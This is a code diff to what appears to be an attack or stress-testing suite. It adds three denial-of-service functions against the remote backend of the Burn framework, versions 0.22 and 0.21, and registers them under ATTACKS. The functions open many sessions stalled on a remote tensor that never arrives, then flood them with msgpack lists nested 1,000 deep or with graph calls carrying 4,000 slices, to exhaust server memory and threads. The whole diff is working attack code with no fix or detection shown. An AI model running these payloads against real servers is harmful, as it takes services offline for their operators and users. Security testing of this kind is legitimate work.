@@ -538,6 +538,57 @@ def nested_frames(address: str, limit: int) -> Iterator[Wire]:
         yield wire
 
 
+def _waiting_burn_sessions(address: str, count: int) -> Iterator[Wire]:
+    """Open sessions of Burn 0.22 whose threads wait for a tensor that nobody exposes."""
+    host, port = urlsplit(address).hostname, urlsplit(address).port
+    for _ in range(count):
+        wire = Wire(address, "session")
+        wire.send(encode_init_0_22(SessionInit(2, secrets.randbits(63), 0, b"")))
+        wire.hear()
+        remote = [secrets.token_bytes(32), {"WebSocket": ["ws", host, port]}]
+        messages = [
+            {"Task": {"RegisterTensorRemote": [[0], remote, [1]]}},
+            {"Task": {"SyncBackend": [1, [0]]}},
+        ]
+        wire.send(msgpack.packb(messages))
+        yield wire
+
+
+def nested_burn_frames(address: str, limit: int) -> Iterator[Wire]:
+    """Send frames of 0.5 MiB of lists nested 1,000 deep behind a fetch that waits, by Burn 0.22."""
+    frame = b"\xdc" + (500).to_bytes(2, "big") + (b"\x91" * 1000 + b"\xc0") * 500
+    for wire in _waiting_burn_sessions(address, 64):
+        for _ in range(4):
+            wire.send(frame)
+        yield wire
+
+
+def slices_of_burn_calls(address: str, limit: int) -> Iterator[Wire]:
+    """Send frames of 12 calls with 4,000 slices each behind a fetch that waits, by Burn 0.22."""
+    slices = [[1000 + each, 2000, 1] for each in range(4000)]
+    call = {"Task": {"ExecuteGraph": [[0], 7, [[[[0], [1]], [[1], [2]]], [2], [], slices]]}}
+    frame = msgpack.packb([call] * 12)
+    for wire in _waiting_burn_sessions(address, 64):
+        for _ in range(4):
+            wire.send(frame)
+        yield wire
+
+
+def nested_messages_of_burn_0_21(address: str, limit: int) -> Iterator[Wire]:
+    """Send messages of 60 KB of lists nested 1,000 deep behind a fetch that waits, by Burn 0.21."""
+    task = [b"\x91" * 1000 + b"\xc0"] * 60
+    message = b"\xdc" + len(task).to_bytes(2, "big") + b"".join(task)
+    for _ in range(64):
+        requests, responses = _burn(address)
+        fetch = Fetch(2**63 + 5, f"{address}/data", 1, None)
+        requests.send(encode_tasks([fetch], request_id(0, 0)))
+        requests.send(encode_tasks([Sync(1)], request_id(1, 0)))
+        for _ in range(16):
+            requests.send(message)
+        yield requests
+        yield responses
+
+
 def published_views(address: str, limit: int) -> Iterator[Wire]:
     """Publish views from 14 sessions at once, whose memory is copied."""
     size = limit // 16
@@ -583,6 +634,9 @@ ATTACKS: Final[dict[str, Attack]] = {
         lists_of_signatures,
         published_views,
         nested_frames,
+        nested_burn_frames,
+        slices_of_burn_calls,
+        nested_messages_of_burn_0_21,
         queued_graphs,
         signatures,
         fetches_of_peers,
